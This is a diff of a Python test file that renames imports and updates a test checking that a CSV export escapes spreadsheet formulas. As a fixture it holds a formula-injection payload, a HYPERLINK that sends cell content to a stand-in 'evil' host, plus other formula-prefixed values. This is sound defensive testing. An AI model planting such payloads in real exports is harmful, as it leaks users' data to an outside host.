@@ -12,8 +12,10 @@ from tests.floor.served import PASSWORD, Served, served
 from websockets.exceptions import InvalidStatus
 from websockets.sync.client import connect
 
-from houseway.floor import people, regulator, schema
-from houseway.floor.settings import settings
+from houseway.server.accounts import users
+from houseway.server.ops import regulator_export
+from houseway.server.ops.settings import settings
+from houseway.server.storage import schema
 
 FORGED = '=HYPERLINK("http://evil/"&A1)'
 
@@ -69,8 +71,8 @@ def test_lists_of_settings_come_from_the_environment(monkeypatch: pytest.MonkeyP
 def test_cells_of_the_export_are_no_formulas(tmp_path: Path) -> None:
     with served(tmp_path / "data") as house:
         for text in (FORGED, "+1", "-1", "@SUM(1)", "plain", "\t=1"):
-            people.logged(house.floor.store, None, "test", text)
-        list(regulator.hand_over(house.floor.store, house.floor.keys, tmp_path / "out"))
+            users.logged(house.floor.store, None, "test", text)
+        list(regulator_export.hand_over(house.floor.store, house.floor.keys, tmp_path / "out"))
     rows = list(csv.DictReader((tmp_path / "out" / "acts.csv").read_text().splitlines()))
     about = [row["about"] for row in rows if row["act"] == "test"]
     assert about[:5] == [f"'{FORGED}", "'+1", "'-1", "'@SUM(1)", "plain"]
